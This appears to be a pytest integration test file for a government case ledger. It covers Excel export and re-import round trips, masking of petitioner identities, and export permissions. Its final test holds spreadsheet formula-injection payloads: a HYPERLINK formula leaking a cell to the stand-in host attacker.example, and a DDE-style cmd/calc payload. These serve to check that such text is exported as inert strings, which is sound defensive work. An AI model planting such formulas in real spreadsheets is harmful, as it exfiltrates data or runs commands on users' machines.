"""This year's ledger exported in the import template's columns, each case as it stands (the
unit it is with, the first reply's date with the latest reply, the latest evaluation), read
back as the office's Excel reads it; imported into the same database it changes nothing, into a
fresh one it re-creates the cases, which export again to the same sheet. A petitioner's identity
is exported only to whoever may read it, masked otherwise, and a masked cell is no value to
create a case with. Every expected cell is written by hand from the rows below."""

from __future__ import annotations

import io
import shutil
from collections.abc import Iterator
from contextlib import contextmanager
from datetime import date, time
from pathlib import Path

import pytest
from openpyxl import load_workbook
from openpyxl.cell import Cell
from sqlalchemy import func, select
from sqlalchemy.orm import sessionmaker

from engine.access import Actor
from engine.errors import NotAllowed
from engine.usecases import cases, ledger, ledger_export, people, tasks
from storage.db import make_engine, make_session_factory
from storage.models import AuditEntry, ProcessInstance, WorkItem
from tests.integration.test_ledger import DONE, LATE, OPEN, PETITION_HEADERS, PROPOSAL_HEADERS, workbook
from tests.world import act, create_people, deploy

LIBRARY = Path(__file__).resolve().parents[2] / "bpmn"
PEOPLE = ("admin", "clerk", "fin", "landy", "civ", "wang", "li")
# 不满意 at its first evaluation: re-handled here (class A) and then 满意 (see ``world``)
REHANDLED = {
    "编号": "2026-建-004", "标题": "关于修缮水渠的建议", "内容": "水渠渗漏", "提出代表": "wang",
    "提出时间": "闭会期间", "登记日期": "2026-06-01", "交办日期": "2026-06-02", "类别": "农业农村",
    "主办单位": "财政所", "答复日期": "2026-07-01", "答复类别": "C", "答复内容": "暂无资金",
    "评价日期": "2026-07-10", "评价": "不满意",
}  # fmt: skip
PETITION = {
    "编号": "2026-信-001", "事由": "低保资格", "来源": "来访", "信访人姓名": "赵某某", "联系电话": "13800001234",
    "信访内容": "赵某某申请复核低保资格", "收到日期": "2026-03-02", "受理日期": "2026-03-05", "承办单位": "民政办",
    "交办日期": "2026-03-06", "答复日期": "2026-03-30", "答复内容": "经核查，赵某某符合低保条件",
}  # fmt: skip
TEMPLATE = ["编号*", "标题*", "内容*", "提出代表*", "提出时间*", "登记日期*", "交办日期", "类别", "主办单位",
            "协办单位", "协办意见日期", "答复日期", "答复类别", "答复内容", "评价日期", "评价"]  # fmt: skip
READ_ONLY = ["状态（只读）", "当前环节（只读）", "最终评价（只读）"]


def build(factory) -> None:
    create_people(factory, *PEOPLE)
    deploy(factory, LIBRARY / "proposal.bpmn", LIBRARY / "petition.bpmn")


@pytest.fixture
def world(session_factory, frozen_clock):  # 2026-12-07 (Mon) 09:00 Beijing
    build(session_factory)
    content = workbook(PROPOSAL_HEADERS, DONE, LATE, OPEN, REHANDLED)
    act(session_factory, "admin", ledger.apply, "proposals", "台账.xlsx", content)
    act(session_factory, "admin", ledger.apply, "petitions", "信访.xlsx", workbook(PETITION_HEADERS, PETITION))
    case_id = _case_id(session_factory, "2026-建-004")
    _complete(session_factory, "fin", case_id, "Task_Rehandle", {"reply_class": "A", "reply_text": "已安排资金"})
    _complete(session_factory, "wang", case_id, "Task_Evaluate", {"evaluation": "满意", "evaluation_comment": ""})
    entered = {"kind": "suggestion", "title": "关于清理河道的建议", "content": "河道淤塞", "deputy": "li"}
    act(session_factory, "clerk", cases.start_instance, "proposal", {**entered, "submitted_during": "recess"})
    return session_factory


def _case_id(factory, key: str) -> int:
    with factory() as s:
        return s.scalar(select(ProcessInstance.id).where(ProcessInstance.business_key == key))


def _complete(factory, username: str, case_id: int, bpmn_id: str, data: dict) -> None:
    with factory() as s:
        task_id = s.scalar(
            select(WorkItem.task_id).where(
                WorkItem.instance_id == case_id, WorkItem.bpmn_id == bpmn_id, WorkItem.state == "ready"
            )
        )
    act(factory, username, tasks.complete, task_id, data)


D = date.fromisoformat  # a date cell's day, as the tables below write it


def sheet_rows(content: bytes) -> list[list[str | date | None]]:
    """The first worksheet's rows as openpyxl reads them (empty cells None), a date cell as
    its day (shown yyyy-mm-dd, no time of day)."""
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    assert sheet.title == "台账"

    def value(cell: Cell) -> str | date | None:
        if not cell.is_date:
            return cell.value
        assert (cell.number_format, cell.value.time()) == ("yyyy-mm-dd", time(0, 0)), cell.coordinate
        return cell.value.date()

    return [[value(cell) for cell in row] for row in sheet.iter_rows()]


def test_the_proposals_ledger_is_the_templates_columns_each_case_as_it_stands(world):
    exported = act(world, "admin", ledger_export.export, "proposals")
    assert (exported.kind, exported.year, exported.rows) == ("proposals", 2026, 5)
    header, *rows = sheet_rows(exported.content)
    assert header == TEMPLATE + READ_ONLY
    entered = _case_id_by_title(world, "关于清理河道的建议")
    assert rows == [
        # the co-handling view the ledger did not date: recorded on its period's last day (03-09 + 1 month)
        ["2026-建-001", "关于修缮村道的建议", "村道破损", "wang 同志", "闭会期间", D("2026-03-02"), D("2026-03-09"),
         "城乡建设", "财政所", "国土所", D("2026-04-09"), D("2026-05-20"), "A", "已修缮", D("2026-06-01"), "满意",
         "已办结", None, "满意"],
        # no evaluation given in its 20 working days (09-29): lapsed on import, followed up (class B)
        ["2026-建-002", "关于增设路灯的建议", "夜间无照明", "li 同志", "大会期间", D("2026-05-06"), D("2026-05-08"),
         "城乡建设", "国土所", None, None, D("2026-09-01"), "B", "列入明年计划", None, None, "办理中",
         "跟踪办理并报告进展", "逾期未反馈"],
        # re-handled here: the first reply's day, the re-handling's class and text, the latest evaluation
        ["2026-建-004", "关于修缮水渠的建议", "水渠渗漏", "wang 同志", "闭会期间", D("2026-06-01"), D("2026-06-02"),
         "农业农村", "财政所", None, None, D("2026-07-01"), "A", "已安排资金", D("2026-12-07"), "满意", "已办结",
         None, "满意"],
        ["2026-建-003", "关于学校周边交通的建议", "上下学拥堵", "wang 同志", "闭会期间", D("2026-11-20"),
         D("2026-11-23"), "教育", "财政所", None, None, None, None, None, None, None, "办理中", "办理并书面答复",
         None],
        # entered here, no 编号: its 案件编号
        [f"#{entered}", "关于清理河道的建议", "河道淤塞", "li 同志", "闭会期间", D("2026-12-07"), None, None, None,
         None, None, None, None, None, None, None, "办理中", "整理分类并交办", None],
    ]  # fmt: skip


def _case_id_by_title(factory, title: str) -> int:
    with factory() as s:
        return s.scalar(select(ProcessInstance.id).where(ProcessInstance.title == title))


def _counts(factory) -> tuple[int, int, int]:
    with factory() as s:
        return (
            s.scalar(select(func.count()).select_from(ProcessInstance)),
            s.scalar(select(func.count()).select_from(WorkItem)),
            s.scalar(select(func.count()).select_from(AuditEntry)),
        )


def test_imported_into_the_same_database_it_changes_nothing(world):
    for kind in ("proposals", "petitions"):
        content = act(world, "admin", ledger_export.export, kind).content
        before = _counts(world)
        planned = act(world, "admin", ledger.plan, kind, f"{kind}.xlsx", content)
        assert planned.problems == []
        assert [(o.row, o.existing) for o in planned.outcomes] == (
            [(2, True), (3, True), (4, True), (5, True), (6, True)] if kind == "proposals" else [(2, True)]
        )
        act(world, "admin", ledger.apply, kind, f"{kind}.xlsx", content)
        assert _counts(world) == before


def test_imported_into_a_fresh_database_it_re_creates_the_cases(world, sqlite_template, tmp_path):
    proposals = act(world, "admin", ledger_export.export, "proposals").content
    with fresh_database(sqlite_template, tmp_path) as fresh:
        done = act(fresh, "admin", ledger.apply, "proposals", "台账.xlsx", proposals)
        assert [(o.title, o.closed, o.waiting_at, o.existing) for o in done.outcomes] == [
            ("关于修缮村道的建议", True, [], False),
            # its evaluation's period ended before the import: 逾期未反馈, class B followed up
            ("关于增设路灯的建议", False, ["跟踪办理并报告进展"], False),
            ("关于修缮水渠的建议", True, [], False),
            ("关于学校周边交通的建议", False, ["办理并书面答复"], False),
            ("关于清理河道的建议", False, ["整理分类并交办"], False),
        ]
        # exported again from there: the same sheet, cell for cell (the case entered by hand
        # keeps the 编号 it was exported with)
        assert sheet_rows(act(fresh, "admin", ledger_export.export, "proposals").content) == sheet_rows(proposals)
        again = act(fresh, "admin", ledger.plan, "proposals", "台账.xlsx", proposals)
        assert [o.existing for o in again.outcomes] == [True] * 5


@contextmanager
def fresh_database(sqlite_template, tmp_path) -> Iterator[sessionmaker]:
    """An empty migrated database with the departments and the people of ``build``."""
    path = tmp_path / "fresh.db"
    shutil.copy(sqlite_template, path)
    engine = make_engine(f"sqlite:///{path}")
    try:
        fresh = make_session_factory(engine)
        with fresh.begin() as s:
            people.ensure_departments(s)
        build(fresh)
        yield fresh
    finally:
        engine.dispose()


PETITION_TEMPLATE = ["编号*", "事由*", "来源*", "信访人姓名*", "联系电话", "信访内容*", "收到日期*", "受理日期",
                     "承办单位", "交办日期", "答复日期", "答复内容", "状态（只读）", "当前环节（只读）"]  # fmt: skip


def test_a_petitioners_identity_is_exported_to_whoever_may_read_it_and_masked_otherwise(world):
    masked = sheet_rows(act(world, "admin", ledger_export.export, "petitions").content)
    # replied 03-30: no review asked for in the petitioner's 30 days, closed on import as it was then
    assert masked == [
        PETITION_TEMPLATE,
        ["2026-信-001", "低保资格", "来访", "******", "******", "******申请复核低保资格", D("2026-03-02"),
         D("2026-03-05"), "民政办", D("2026-03-06"), D("2026-03-30"), "经核查，******符合低保条件", "已办结", None],
    ]  # fmt: skip
    reader = Actor("keeper_admin", frozenset({"admin", "petition_officer"}))
    with world.begin() as s:
        readable = sheet_rows(ledger_export.export(s, reader, "petitions").content)
    assert readable[1][3:6] == ["赵某某", "13800001234", "赵某某申请复核低保资格"]
    assert readable[1][11] == "经核查，赵某某符合低保条件"


def test_a_masked_cell_is_no_value_to_create_a_case_with(world):
    masked = act(world, "admin", ledger_export.export, "petitions").content
    with world.begin() as s:  # the petition gone: the row would be a case to create
        s.query(ProcessInstance).filter(ProcessInstance.business_key == "2026-信-001").delete()
    with pytest.raises(ledger.LedgerRefused) as refused:
        act(world, "admin", ledger.apply, "petitions", "信访.xlsx", masked)
    assert sorted((p.row, p.column, p.error.code) for p in refused.value.plan.problems) == [
        (2, "信访人姓名", "masked_value"),
        (2, "信访内容", "masked_value"),
        (2, "答复内容", "masked_value"),
        (2, "联系电话", "masked_value"),
    ]


def test_only_whoever_may_import_a_ledger_exports_it(world):
    for username in ("clerk", "wang"):
        with pytest.raises(NotAllowed):
            act(world, username, ledger_export.export, "proposals")


# texts that a spreadsheet would run as a formula (a title anyone who may file a proposal types)
FORMULA_TITLE = '=HYPERLINK("http://attacker.example/?leak="&A2,"详情")'


def test_a_text_that_starts_a_formula_is_exported_as_text_and_imported_back_the_same(world, sqlite_template, tmp_path):
    entered = {"kind": "suggestion", "title": FORMULA_TITLE, "content": "@SUM(1+1)*cmd|' /C calc'!A0"}
    act(world, "clerk", cases.start_instance, "proposal", {**entered, "deputy": "li", "submitted_during": "recess"})
    case_id = _case_id_by_title(world, FORMULA_TITLE)
    proposals = act(world, "admin", ledger_export.export, "proposals").content
    sheet = load_workbook(io.BytesIO(proposals)).worksheets[0]
    [row] = [r for r in sheet.iter_rows(min_row=2) if r[0].value == f"#{case_id}"]
    assert [(c.data_type, c.value) for c in row[:3]] == [
        ("s", f"#{case_id}"),
        ("s", '=HYPERLINK("http://attacker.example/?leak="&A2,"详情")'),  # a string cell, no formula
        ("s", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ]
    # into the same database: the case known by its #id, nothing changes
    planned = act(world, "admin", ledger.plan, "proposals", "台账.xlsx", proposals)
    assert planned.problems == [] and [o.existing for o in planned.outcomes] == [True] * 6
    # into a fresh one: re-created with the same texts, exported again the same
    with fresh_database(sqlite_template, tmp_path) as fresh:
        done = act(fresh, "admin", ledger.apply, "proposals", "台账.xlsx", proposals)
        assert done.outcomes[-1].title == '=HYPERLINK("http://attacker.example/?leak="&A2,"详情")'
        assert sheet_rows(act(fresh, "admin", ledger_export.export, "proposals").content) == sheet_rows(proposals)
